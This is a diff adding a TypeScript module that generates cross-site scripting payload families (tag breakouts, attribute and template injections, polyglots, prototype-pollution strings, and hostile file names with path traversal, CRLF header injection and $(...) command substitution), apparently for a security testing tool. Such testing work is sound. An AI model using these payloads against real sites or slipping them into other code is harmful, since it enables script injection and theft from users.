@@ -1,0 +1,105 @@
+import type { Family } from '../family.ts';
+
+/** Sources: PortSwigger XSS cheat sheet (contexts, AngularJS, polyglots); OWASP; Gareth Heyes' polyglots; OWASP JSON injection. */
+
+const closers = [
+  '">',
+  "'>",
+  '`>',
+  '\\">',
+  '"/>',
+  '</title>',
+  '</textarea>',
+  '</style>',
+  '</script>',
+  '</noscript>',
+  '</template>',
+  '</select>',
+  '</option></select>',
+  '</math>',
+  '</svg>',
+  '</xmp>',
+  '</iframe>',
+  '</noembed>',
+  '</noframes>',
+  '</plaintext>',
+  '</button>',
+  '</a>',
+  '</li></ol>',
+  '</p></div></article>',
+  '-->',
+  '--!>',
+  ']]>',
+  '*/',
+  '}}',
+  '&quot;&gt;',
+];
+
+/** Out of wherever the text was put, then on. */
+export const breakouts: Family = (run) =>
+  closers.flatMap((close) => [`${close}<img src=x onerror=${run}>`, `${close}<svg onload=${run}>`, `${close}<script>${run}</script>`]);
+
+export const attributes: Family = (run) =>
+  ['"', "'", '`', ' ', '\u00a0', '&quot;', '&#34;', '\\"'].flatMap((quote) => [
+    `${quote} onmouseover=${quote}${run}`,
+    `${quote} autofocus onfocus=${quote}${run}${quote} x=${quote}`,
+    `${quote} style=${quote}animation-name:x${quote} onanimationstart=${quote}${run}`,
+    `x${quote}onerror=${quote}${run}`,
+  ]);
+
+export const templates: Family = (run) => [
+  `\${${run}}`,
+  `{{${run}}}`,
+  `{{constructor.constructor('${run}')()}}`,
+  `{{$on.constructor('${run}')()}}`,
+  `{{_c.constructor('${run}')()}}`,
+  `#{${run}}`,
+  `<%= ${run} %>`,
+  `[[${run}]]`,
+  `{%${run}%}`,
+  `@{${run}}`,
+  `$t(${run})`,
+  '$t(tip.problem)',
+  '{{title}} {{count}} {{question}}',
+  '{{question, html}}',
+  "$& $` $' $1 $$",
+  '%s %o %c %%',
+  `\`;${run};\``,
+  `';${run};'`,
+  `";${run};//`,
+  `\\';${run};//`,
+  `'-${run}-'`,
+  `"-${run}-"`,
+  `</script><script>${run}//`,
+  `"}</script><script>${run}</script>`,
+  `\\u003cimg src=x onerror=${run}\\u003e`,
+  `\\x3cimg src=x onerror=${run}\\x3e`,
+  `\u2028${run}\u2029`,
+  `{"__proto__":{"innerHTML":"<img src=x onerror=${run}>"}}`,
+  '__proto__',
+  'constructor',
+  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${run}>"}}`,
+  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${run} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${run}//>\\x3e`,
+  `'">><marquee><img src=x onerror=${run}></marquee>"></plaintext\\></|\\><plaintext/onmouseover=${run}>`,
+  `javascript://'/</title></style></textarea></script>--><p" onclick=${run}//>*/${run}/*`,
+  `" onclick=${run}//<button ' onclick=${run}//> */ ${run}//`,
+];
+
+export const fileNames: Family = (run) => [
+  `"><img src=x onerror=${run}>.png`,
+  `'><svg onload=${run}>.jpg`,
+  `<img src=x onerror=${run}>.webp`,
+  `photo.png" onload="${run}`,
+  `a.svg?<svg onload=${run}>`,
+  `../../../../etc/passwd<script>${run}</script>`,
+  `..\\..\\index.html#<img src=x onerror=${run}>`,
+  `x.png\r\nContent-Type: text/html\r\n\r\n<script>${run}</script>`,
+  `x.png"; filename*=UTF-8''x.html`,
+  `x.html%00.png<script>${run}</script>`,
+  `javascript:${run}.png`,
+  `data:text/html,<script>${run}</script>.png`,
+  `photo\u202egnp.exe<b onclick=${run}>`,
+  `${'a'.repeat(30)}<svg/onload=${run}>`,
+  `\`${run}\`.png`,
+  `$(${run}).png`,
+];
